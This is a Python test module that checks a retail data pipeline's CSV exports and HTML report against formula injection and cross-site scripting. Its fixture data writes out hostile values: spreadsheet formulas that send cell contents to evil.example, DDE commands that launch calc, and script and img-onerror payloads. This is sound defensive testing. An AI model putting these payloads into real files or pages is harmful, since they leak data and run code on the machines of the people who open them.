"""Outputs that attack their readers: hostile names in the sources reach the csv exports and
the HTML report as text, never as live spreadsheet formulas or markup; a folder that cannot
take an output is one sentence, also as a stage of `shopflow run`.

One world (seed 42, scale 0.1) is built, customers, products and categories are renamed in the
operations DB to hostile values, and `shopflow run` builds everything once. Every cell of every
csv export the run wrote is checked; the same questions exported with ``--raw-cells`` are the
clean comparison: same rows, same order, every cell equal except the neutralised ones, which
are the raw cell with a leading ``'``.
"""

from __future__ import annotations

import csv
import re
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from ingestion.database.connection import autocommit
from ingestion.exports import QUESTIONS
from ingestion.exports.cells import FORMULA_TRIGGERS, neutralised
from ingestion.settings import (
    ENV_EXPORT_DIR,
    ENV_EXPORT_NEUTRALISE_FORMULAS,
    ENV_REPORT_DIR,
    ConnectionSettings,
)
from tests.html_page import read_page
from tests.reliability.references import new_world, output_of
from tests.reliability.support import CliWorld, shopflow_command

pytestmark = [pytest.mark.reliability, pytest.mark.integration, pytest.mark.slow]

SCALE = "0.1"
"""The smallest world whose `dbt build` passes every recency test (0.05 fails one)."""
HOSTILE_FIRST_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&C2,"Click for your refund")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://evil.example")',  # full-width equals
    'Ann "the =quote", Lee\n=1+1',  # quotes, comma, a newline: only csv quoting, no prefix
    "<script>alert('name')</script>",
)
HOSTILE_CITY = '=WEBSERVICE("http://evil.example/"&A2)'
HOSTILE_TITLE = "@SUM(A1:A9)"
HOSTILE_BRAND = "-1+1"
HOSTILE_CATEGORIES = ("<script>alert('category')</script>", '"><img src=x onerror=alert(1)>')
CUSTOMER_QUESTIONS = ("open_orders", "customers_with_open_orders", "top_customers")
COMPARED_QUESTIONS = (*CUSTOMER_QUESTIONS, "pending_items", "best_sellers", "monthly_revenue")
EXPECTED_CHANGES = {
    "open_orders": 8,  # 7 first names and the city
    "customers_with_open_orders": 8,
    "top_customers": 7,  # no city in it
    "pending_items": 1,  # the title (the brand is not exported)
    "best_sellers": 2,  # the title and the brand
    "monthly_revenue": 0,  # numbers only: the falling months' negative growth stays numeric
}


@dataclass(frozen=True)
class HostileWorld:
    world: CliWorld
    run_output: str

    @property
    def exports(self) -> Path:
        return self.world.files / "exports"

    def shopflow(self, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
        """``shopflow <args>`` on the world with extra environment variables."""
        return subprocess.run(
            shopflow_command(*args),
            env={**self.world.env, **env},
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )

    def warehouse(self, statement: str) -> list[tuple]:
        with autocommit(self.world.settings, self.world.settings.database) as cursor:
            cursor.execute(statement)
            return list(cursor.fetchall())


OPEN_ORDER_IDS = 9_100_000
"""Ids of the pending orders given to the hostile customers (the world has only a few open)."""


def make_hostile(settings: ConnectionSettings) -> None:
    """Customers with a recognised order get the hostile first names (one a hostile city) and
    each a copy of a pending order, so every name is in all three customer exports; a product
    on that order a hostile title and brand; the two biggest categories hostile names."""
    with autocommit(settings, settings.ops_database) as cursor:
        cursor.execute(
            "select order_id, ordered_at from ops.orders where status = 'pending'"
            " order by order_id limit 1"
        )
        template, ordered_at = cursor.fetchone()
        cursor.execute(
            "select customer_id from ops.customers as c where registered_at < %s and exists ("
            " select 1 from ops.orders as o where o.customer_id = c.customer_id"
            " and o.status = 'delivered') order by customer_id limit %s",
            (ordered_at, len(HOSTILE_FIRST_NAMES)),
        )
        customers = [row[0] for row in cursor.fetchall()]
        assert len(customers) == len(HOSTILE_FIRST_NAMES)
        for index, (customer_id, name) in enumerate(
            zip(customers, HOSTILE_FIRST_NAMES, strict=True)
        ):
            cursor.execute(
                "update ops.customers set first_name = %s where customer_id = %s",
                (name, customer_id),
            )
            order_id = OPEN_ORDER_IDS + index
            cursor.execute(
                "insert into ops.orders select %s, %s, ordered_at, status, payment_method,"
                " currency, channel, delivery_date, created_at, updated_at"
                " from ops.orders where order_id = %s",
                (order_id, customer_id, template),
            )
            cursor.execute(
                "insert into ops.order_items select %s * 100 + line_number, %s, line_number,"
                " product_id, sku, quantity, unit_price, discount, created_at, updated_at"
                " from ops.order_items where order_id = %s",
                (order_id, order_id, template),
            )
        cursor.execute(
            "update ops.customers set city = %s where customer_id = %s",
            (HOSTILE_CITY, customers[0]),
        )
        cursor.execute(
            "update storefront.products set title = %s, brand = %s where product_id = ("
            " select min(product_id) from ops.order_items where order_id = %s)",
            (HOSTILE_TITLE, HOSTILE_BRAND, template),
        )
        cursor.execute(
            "select category from storefront.products group by category"
            " order by count(*) desc, category limit %s",
            (len(HOSTILE_CATEGORIES),),
        )
        for (category,), hostile in zip(cursor.fetchall(), HOSTILE_CATEGORIES, strict=True):
            cursor.execute(
                "update storefront.products set category = %s where category = %s",
                (hostile, category),
            )


@pytest.fixture(scope="module")
def hostile(
    server_settings: ConnectionSettings, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[HostileWorld]:
    for world in new_world(server_settings, tmp_path_factory.mktemp("hostile"), SCALE):
        make_hostile(world.settings)
        done = world.run("run")
        assert done.returncode == 0, output_of(done)
        yield HostileWorld(world, output_of(done))


NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
"""How Postgres prints a number column's value: a spreadsheet reads it as that number."""


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def run_export(hostile: HostileWorld, question: str) -> Path:
    """The csv the run's export stage wrote for ``question``."""
    # exactly this question's file: one question's name can start another's (open_orders,
    # open_orders_by_delivery_date)
    stamped = re.compile(rf"{re.escape(question)}_\d{{8}}T\d{{6}}Z\.csv")
    (path,) = [path for path in hostile.exports.iterdir() if stamped.fullmatch(path.name)]
    return path


def exported_once(hostile: HostileWorld, folder: Path, *args: str, **env: str) -> Path:
    done = hostile.shopflow("export", *args, "--out", str(folder), **env)
    assert done.returncode == 0, output_of(done)
    (path,) = folder.iterdir()
    return path


def test_no_cell_of_any_export_starts_a_formula(hostile: HostileWorld) -> None:
    files = sorted(hostile.exports.glob("*.csv"))
    assert len(files) == len(QUESTIONS), "the run's export stage writes every question"
    live = [
        (path.name, cell)
        for path in files
        for row in read_csv(path)
        for cell in row
        if cell.startswith(FORMULA_TRIGGERS) and not NUMBER.fullmatch(cell)
    ]
    assert live == []
    neutralised_cells = sum(
        cell.startswith("'") for path in files for row in read_csv(path) for cell in row
    )
    assert f"{neutralised_cells} formula-like cells neutralised" in " ".join(
        hostile.run_output.split()
    )


@pytest.fixture(scope="module")
def raw_exports(
    hostile: HostileWorld, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, list[list[str]]]:
    """The clean comparison: each compared question of the same build, cells as stored."""
    folder = tmp_path_factory.mktemp("raw-cells")
    return {
        question: read_csv(exported_once(hostile, folder / question, question, "--raw-cells"))
        for question in COMPARED_QUESTIONS
    }


@pytest.mark.parametrize("question", COMPARED_QUESTIONS)
def test_a_neutralised_export_is_the_raw_one_with_a_quote_before_each_formula(
    hostile: HostileWorld, raw_exports: dict[str, list[list[str]]], question: str
) -> None:
    safe = read_csv(run_export(hostile, question))
    raw = raw_exports[question]

    assert len(safe) == len(raw) > 1
    assert safe[0] == raw[0]
    changed = 0
    for safe_row, raw_row in zip(safe[1:], raw[1:], strict=True):
        for safe_cell, raw_cell in zip(safe_row, raw_row, strict=True):
            if safe_cell != raw_cell:
                assert safe_cell == neutralised(raw_cell) != raw_cell
                changed += 1
            else:  # left alone: not a formula, or a number (typed columns are never touched)
                assert neutralised(raw_cell) == raw_cell or NUMBER.fullmatch(raw_cell)
    assert changed == EXPECTED_CHANGES[question]


@pytest.mark.parametrize("question", CUSTOMER_QUESTIONS)
def test_every_hostile_name_reaches_the_customer_exports_as_text(
    hostile: HostileWorld, raw_exports: dict[str, list[list[str]]], question: str
) -> None:
    safe = read_csv(run_export(hostile, question))
    raw = raw_exports[question]
    column = safe[0].index("first_name")
    safe_names = {row[column] for row in safe[1:]}
    raw_names = {row[column] for row in raw[1:]}
    # trim() in staging takes spaces only: tab and carriage return reach the marts as sent
    assert set(HOSTILE_FIRST_NAMES) <= raw_names  # the attack did reach the output
    assert {neutralised(name) for name in HOSTILE_FIRST_NAMES} <= safe_names
    assert sum(name.startswith("'") for name in safe_names) == 7
    if "city" in safe[0]:
        assert "'" + HOSTILE_CITY in {row[safe[0].index("city")] for row in safe[1:]}


def test_a_negative_number_stays_a_number(hostile: HostileWorld) -> None:
    rows = read_csv(run_export(hostile, "monthly_revenue"))
    growth = [row[rows[0].index("month_over_month_growth_rate")] for row in rows[1:]]
    assert [rate for rate in growth if rate.startswith("-")], "no month with falling revenue"
    assert all(not rate.startswith("'") for rate in growth)
    for rate in growth:
        if rate:
            float(rate)


def test_the_setting_switches_neutralising_off_and_parquet_keeps_values(
    hostile: HostileWorld, raw_exports: dict[str, list[list[str]]], tmp_path: Path
) -> None:
    raw = raw_exports["open_orders"]
    off = read_csv(
        exported_once(
            hostile,
            tmp_path / "setting",
            "open_orders",
            **{ENV_EXPORT_NEUTRALISE_FORMULAS: "false"},
        )
    )
    assert off == raw
    table = pq.read_table(
        exported_once(hostile, tmp_path / "parquet", "open_orders", "--format", "parquet")
    )
    assert set(HOSTILE_FIRST_NAMES) <= set(table.column("first_name").to_pylist())

    done = hostile.shopflow("export", "open_orders", **{ENV_EXPORT_NEUTRALISE_FORMULAS: "maybe"})
    said = output_of(done)
    assert done.returncode == 1 and "Traceback" not in said
    assert f"{ENV_EXPORT_NEUTRALISE_FORMULAS}='maybe' is not true or false" in said


def test_hostile_categories_are_text_in_the_report(hostile: HostileWorld) -> None:
    html = (hostile.world.files / "reports" / "index.html").read_text(encoding="utf-8")
    page = read_page(html)
    tags = {tag for tag, _ in page.tags}
    assert "script" not in tags and "img" not in tags
    assert [n for _, attrs in page.tags for n in attrs if n.startswith("on")] == []
    for category in HOSTILE_CATEGORIES:
        assert category in page.text  # shown as written, in the table of the figures
        assert any(attrs.get("data-key") == category for _, attrs in page.tags)
        assert category not in html  # never raw in the file


@pytest.fixture
def blocker(tmp_path: Path) -> Path:
    """A regular file standing where a folder should be (root ignores permissions)."""
    path = tmp_path / "not-a-folder"
    path.write_text("")
    return path


@pytest.mark.parametrize(
    ("command", "setting"),
    [(("report",), ENV_REPORT_DIR), (("export", "open_orders"), ENV_EXPORT_DIR)],
)
def test_an_unwritable_folder_is_one_sentence(
    hostile: HostileWorld, blocker: Path, command: tuple[str, ...], setting: str
) -> None:
    folder = blocker / "out"
    done = hostile.shopflow(*command, "--out", str(folder))
    said = output_of(done)
    assert done.returncode == 1 and "Traceback" not in said
    assert said.startswith("error: Cannot write ") and said.count("error:") == 1
    assert f"into the folder {folder} ({blocker} is a file, not a folder)" in said
    assert f"choose a folder you can write to with --out or {setting}." in said
    assert blocker.is_file() and blocker.read_text() == ""


@pytest.mark.parametrize(
    ("stage", "setting"), [("report", ENV_REPORT_DIR), ("export", ENV_EXPORT_DIR)]
)
def test_an_unwritable_folder_fails_its_stage_with_the_sentence(
    hostile: HostileWorld, blocker: Path, stage: str, setting: str
) -> None:
    done = hostile.shopflow("run", "--only", stage, **{setting: str(blocker / "out")})
    assert done.returncode == 1 and "Traceback" not in output_of(done)
    ((status, error),) = hostile.warehouse(
        f"select status, error from audit.pipeline_runs where stage = '{stage}'"
        " order by started_at desc limit 1"
    )
    assert status == "failed"
    assert f"({blocker} is a file, not a folder): choose a folder you can write to" in error


@pytest.mark.parametrize("command", [("report",), ("export", "open_orders")])
def test_a_folder_name_that_looks_like_terminal_markup_is_printed_as_written(
    hostile: HostileWorld, tmp_path: Path, command: tuple[str, ...]
) -> None:
    folder = tmp_path / "[/bold][link=http://evil.example]drop"
    done = hostile.shopflow(*command, "--out", str(folder))
    said = output_of(done)
    assert done.returncode == 0 and "Traceback" not in said, said
    (written,) = folder.iterdir()
    assert str(written) in said  # before: printed without the brackets, or a MarkupError
